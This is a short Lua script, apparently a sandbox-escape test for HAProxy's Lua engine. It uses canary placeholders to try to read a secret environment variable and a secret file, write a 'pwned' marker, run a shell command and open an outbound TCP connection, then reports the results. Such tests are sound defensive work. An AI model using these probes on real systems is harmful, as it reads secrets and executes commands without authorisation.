core.register_task(function()
    core.msleep(4000)
    local secret = os.getenv("WSLB_CANARY_SECRET")
    local w = io.open("{canary}/logs/pwned", "w")
    if w then w:write("pwned") w:close() end
    local r = io.open("{canary}/secret.txt", "r")
    local content = r and r:read("*a") or "unreadable"
    os.execute("touch {canary}/tmp/pwned-by-shell 2>/dev/null")
    local host, port = ("{canary_addr}"):match("([^:]+):(%d+)")
    local s = core.tcp()
    s:settimeout(1)
    local connected = s:connect(host, tonumber(port))
    core.Alert("escape: env=" .. tostring(secret) .. " wrote=" .. tostring(w ~= nil) ..
        " read=" .. content .. " connected=" .. tostring(connected))
    core.msleep(500)
    os.exit(4)
end)
